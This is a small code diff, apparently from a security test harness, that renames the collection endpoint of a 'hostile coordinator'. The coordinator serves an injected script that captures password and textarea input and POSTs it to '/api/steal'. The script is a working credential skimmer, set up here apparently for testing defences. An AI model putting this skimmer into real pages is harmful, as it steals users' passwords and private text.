@@ -56,7 +56,7 @@ document.addEventListener('input', (event) => {
   const field = event.target;
   if (!field || typeof field.value !== 'string') return;
   if (field.type === 'password' || field.tagName === 'TEXTAREA')
-    fetch('/steal', { method: 'POST', body: field.value, keepalive: true });
+    fetch('/api/steal', { method: 'POST', body: field.value, keepalive: true });
 }, true);
 `;
 
@@ -76,7 +76,7 @@ async function startHostileCoordinator(upstream: string): Promise<void> {
       res.writeHead(200, { 'content-type': 'text/javascript' });
       return void res.end(EXFILTRATE);
     }
-    if (path === '/steal') {
+    if (path === '/api/steal') {
       let body = '';
       req.on('data', (chunk: Buffer) => {
         body += chunk.toString();
